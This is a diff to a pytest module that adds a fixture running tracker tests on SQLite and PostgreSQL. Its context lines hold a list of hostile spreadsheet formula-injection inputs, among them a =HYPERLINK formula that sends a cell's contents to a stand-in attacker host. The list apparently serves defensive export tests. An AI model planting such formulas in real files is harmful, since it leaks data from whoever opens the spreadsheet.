@@ -13,6 +13,12 @@ import pytest
 
 from tests.conftest import Tracker
 
+
+@pytest.fixture
+def tracker(backend_tracker: Tracker) -> Tracker:
+    """These tests run on SQLite and on PostgreSQL with the same expectations."""
+    return backend_tracker
+
 FORMATS = Path(__file__).parent / "fixtures" / "formats"
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "'=already quoted", "''two"]
 
